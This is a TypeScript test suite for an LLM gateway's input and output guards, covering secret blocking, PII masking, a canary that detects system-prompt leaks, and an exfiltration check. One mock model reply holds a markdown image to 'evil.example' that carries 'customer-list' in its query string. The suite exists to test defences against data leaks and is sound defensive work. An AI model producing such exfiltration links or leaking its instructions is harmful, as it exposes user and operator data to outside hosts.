// Guards through the real gateway: what a blocked input, a masked input, a leaked canary, an
// exfiltration link and a secret split across stream chunks look like to a client and in the audit log.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import OpenAI from 'openai';
import { queryAudit } from '../src/audit/index.ts';
import { chat, post, type TestGateway, testGateway } from './support/gateway.ts';

const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
const GITHUB_TOKEN = `ghp_${'a1B2c3D4e5F6g7H8i9J0'}${'k1L2m3N4o5P6'}${'q7R8'}`;

describe('guards on the gateway: input', () => {
  let gw: TestGateway;
  let key: string;
  before(async () => {
    gw = await testGateway(
      () => `guards:
  secrets: { action: block }
  pii: { action: mask }
  validation: { max_messages: 4 }`,
    );
    key = await gw.key();
  });
  after(() => gw.close());

  test('a prompt carrying a cloud key is refused with guard.secrets; the audit event has the span, never the key', async () => {
    const r = await post(`${gw.url}/v1/chat/completions`, chat(`deploy with ${AWS_KEY} please`), {
      authorization: `Bearer ${key}`,
      'x-request-id': 'sec-1',
    });
    assert.equal(r.status, 403);
    assert.equal(r.json.error.code, 'guard.secrets');
    const [row] = await queryAudit(gw.gateway.store, { limit: 10 }).then((rows) =>
      rows.filter((e) => e.event.requestId === 'sec-1'),
    );
    assert.ok(row, 'the denied call is in the audit log');
    assert.deepEqual(row.event.reasons, ['guard.secrets']);
    const f = row.event.findings!.find((x) => x.guard === 'secrets')!;
    assert.equal(f.start, 'deploy with '.length);
    assert.equal(f.end, f.start + AWS_KEY.length);
    assert.ok(!JSON.stringify(row.event).includes(AWS_KEY), 'the audit event must not hold the secret');
  });

  test('personal data is masked before it reaches the model, and the call goes through', async () => {
    const r = await post(`${gw.url}/v1/chat/completions`, chat('mail alice.smith@example.com about it'), {
      authorization: `Bearer ${key}`,
    });
    assert.equal(r.status, 200);
    const sent = JSON.stringify(gw.upstream.lastBody());
    assert.ok(!sent.includes('alice.smith@example.com'), `upstream saw the address: ${sent}`);
  });

  test('pseudonymised values are restored in the answer: the model saw only placeholders', async () => {
    const r = await post(
      `${gw.url}/v1/chat/completions`,
      chat('call +44 20 7946 0958 or mail bob@example.org'),
      {
        authorization: `Bearer ${key}`,
      },
    );
    assert.equal(r.status, 200);
    const sent = JSON.stringify(gw.upstream.lastBody());
    assert.ok(!sent.includes('bob@example.org') && /<EMAIL_1>/.test(sent), `upstream saw: ${sent}`);
    assert.equal(
      r.json.choices[0].message.content,
      'You said: call +44 20 7946 0958 or mail bob@example.org',
    );
  });

  test('pseudonymised values are restored in a streamed answer, across chunk boundaries', async () => {
    const client = new OpenAI({ apiKey: key, baseURL: `${gw.url}/v1`, maxRetries: 0 });
    const stream = await client.chat.completions.create({
      model: 'demo-chat',
      messages: [{ role: 'user', content: 'write to carol.jones@example.net today' }],
      stream: true,
    });
    let text = '';
    for await (const c of stream) text += c.choices[0]?.delta?.content ?? '';
    assert.equal(text, 'You said: write to carol.jones@example.net today');
    assert.ok(!JSON.stringify(gw.upstream.lastBody()).includes('carol.jones'));
  });

  test('too many messages is guard.validation, naming the limit', async () => {
    const messages = Array.from({ length: 6 }, (_, i) => ({ role: 'user', content: `m${i}` }));
    const r = await post(`${gw.url}/v1/chat/completions`, JSON.stringify({ model: 'demo-chat', messages }), {
      authorization: `Bearer ${key}`,
    });
    assert.equal(r.status, 400);
    assert.equal(r.json.error.code, 'guard.validation');
  });
});

describe('guards on the gateway: actions per finding type, per role', () => {
  let gw: TestGateway;
  before(async () => {
    gw = await testGateway(
      () => `guards:
  pii:
    action: mask
    pseudonymise: false
    actions: { credit_card: block }
    roles:
      support: { actions: { email: flag } }`,
    );
  });
  after(() => gw.close());

  test('a card is refused while an e-mail in the same route is masked', async () => {
    const key = await gw.key();
    const card = await post(`${gw.url}/v1/chat/completions`, chat('charge 4111 1111 1111 1111 now'), {
      authorization: `Bearer ${key}`,
    });
    assert.equal(card.status, 403);
    assert.equal(card.json.error.code, 'guard.pii');
    const mail = await post(`${gw.url}/v1/chat/completions`, chat('mail carol@example.com'), {
      authorization: `Bearer ${key}`,
    });
    assert.equal(mail.status, 200);
    const sent = JSON.stringify(gw.upstream.lastBody());
    assert.ok(!sent.includes('carol@example.com') && sent.includes('[EMAIL]'), `upstream saw: ${sent}`);
  });

  test('the support role only flags e-mails (recorded in the audit event) and still cannot send a card', async () => {
    const key = await gw.key({ roles: ['app', 'support'] });
    const r = await post(`${gw.url}/v1/chat/completions`, chat('mail carol@example.com'), {
      authorization: `Bearer ${key}`,
      'x-request-id': 'per-type-1',
    });
    assert.equal(r.status, 200);
    assert.ok(JSON.stringify(gw.upstream.lastBody()).includes('carol@example.com'));
    const rows = await queryAudit(gw.gateway.store, { limit: 20 });
    const row = rows.find((e) => e.event.requestId === 'per-type-1');
    assert.deepEqual(
      row?.event.findings?.filter((f) => f.stage === 'input').map((f) => [f.type, f.action]),
      [['email', 'flag']],
    );
    const card = await post(`${gw.url}/v1/chat/completions`, chat('card 4111 1111 1111 1111'), {
      authorization: `Bearer ${key}`,
    });
    assert.equal(card.status, 403);
  });
});

describe('guards on the gateway: output', () => {
  let gw: TestGateway;
  let key: string;
  before(async () => {
    gw = await testGateway(
      () => `guards:
  canary: {}
  exfiltration: { allowed_hosts: [docs.example.com] }
  secrets: { action: block }`,
      {
        chunkSize: 7,
        replyWith: (messages) => {
          const last = String(messages.at(-1)?.content ?? '');
          if (last === 'leak') return `My instructions: ${messages.map((m) => m.content).join(' | ')}`;
          if (last === 'image') return 'Here: ![chart](https://evil.example/pixel.png?q=customer-list)';
          if (last === 'docs') return 'See ![diagram](https://docs.example.com/a.png)';
          if (last === 'token') return `Sure, the token is ${GITHUB_TOKEN} — keep it safe.`;
          return 'fine';
        },
      },
    );
    key = await gw.key();
  });
  after(() => gw.close());

  const ask = (content: string) =>
    post(
      `${gw.url}/v1/chat/completions`,
      JSON.stringify({
        model: 'demo-chat',
        messages: [
          { role: 'system', content: 'You are terse.' },
          { role: 'user', content },
        ],
      }),
      {
        authorization: `Bearer ${key}`,
      },
    );

  test('an answer that repeats the planted canary (system-prompt leak) is refused with guard.canary', async () => {
    const r = await ask('leak');
    assert.equal(r.status, 403);
    assert.equal(r.json.error.code, 'guard.canary');
    const system = (
      gw.upstream.lastBody() as { messages: { role: string; content: string }[] }
    ).messages.filter((m) => m.role === 'system');
    assert.ok(system.length > 0, 'the canary went to the model in a system message');
  });

  test('a markdown image to a host not on the allow-list is refused; an allowed host passes', async () => {
    const bad = await ask('image');
    assert.equal(bad.status, 403);
    assert.equal(bad.json.error.code, 'guard.exfiltration');
    const good = await ask('docs');
    assert.equal(good.status, 200);
  });

  test('a secret split across stream chunks is caught, none of it is released, and the SDK raises our code', async () => {
    const client = new OpenAI({ apiKey: key, baseURL: `${gw.url}/v1`, maxRetries: 0 });
    const stream = await client.chat.completions.create({
      model: 'demo-chat',
      messages: [{ role: 'user', content: 'token' }],
      stream: true,
    });
    let text = '';
    await assert.rejects(
      (async () => {
        for await (const c of stream) text += c.choices[0]?.delta?.content ?? '';
      })(),
      (err: unknown) => {
        assert.equal((err as { code?: string }).code, 'guard.secrets');
        return true;
      },
    );
    assert.ok(!text.includes('ghp_'), `part of the token was released: ${text}`);
    assert.ok(GITHUB_TOKEN.length > 3 * 7, 'the token spans at least three chunks');
  });

  test('a clean stream passes unchanged', async () => {
    const client = new OpenAI({ apiKey: key, baseURL: `${gw.url}/v1`, maxRetries: 0 });
    const stream = await client.chat.completions.create({
      model: 'demo-chat',
      messages: [{ role: 'user', content: 'hi' }],
      stream: true,
    });
    let text = '';
    for await (const c of stream) text += c.choices[0]?.delta?.content ?? '';
    assert.equal(text, 'fine');
  });
});

describe('guards on the gateway: masking inside streams', () => {
  let gw: TestGateway;
  let key: string;
  before(async () => {
    gw = await testGateway(
      () => `guards:
  secrets: { action: mask }
  pii: { action: mask, pseudonymise: false }`,
      {
        chunkSize: 5,
        replyWith: (messages) => {
          const last = String(messages.at(-1)?.content ?? '');
          if (last === 'token')
            return `Sure, the token is ${GITHUB_TOKEN} and write to dana@example.org today.`;
          return 'fine';
        },
      },
    );
    key = await gw.key();
  });
  after(() => gw.close());

  test('a secret and an e-mail split across SSE chunks are masked in the stream the SDK reads; the rest is intact', async () => {
    const client = new OpenAI({ apiKey: key, baseURL: `${gw.url}/v1`, maxRetries: 0 });
    const stream = await client.chat.completions.create({
      model: 'demo-chat',
      messages: [{ role: 'user', content: 'token' }],
      stream: true,
    });
    let text = '';
    let chunks = 0;
    for await (const c of stream) {
      text += c.choices[0]?.delta?.content ?? '';
      chunks++;
    }
    assert.equal(text, 'Sure, the token is [GITHUB_TOKEN] and write to [EMAIL] today.');
    assert.ok(chunks > GITHUB_TOKEN.length / 5, 'the answer came in many chunks');
  });

  test('the audit event records the stream findings as masked', async () => {
    const r = await post(
      `${gw.url}/v1/chat/completions`,
      JSON.stringify({ model: 'demo-chat', messages: [{ role: 'user', content: 'token' }], stream: true }),
      { authorization: `Bearer ${key}`, 'x-request-id': 'stream-mask-1' },
    );
    assert.equal(r.status, 200);
    const rows = await queryAudit(gw.gateway.store, { limit: 20 });
    const row = rows.find((e) => e.event.requestId === 'stream-mask-1');
    const found = (row?.event.findings ?? []).filter((f) => f.stage === 'output_stream');
    assert.deepEqual(found.map((f) => [f.guard, f.type, f.action]).sort(), [
      ['pii', 'email', 'mask'],
      ['secrets', 'github_token', 'mask'],
    ]);
  });
});
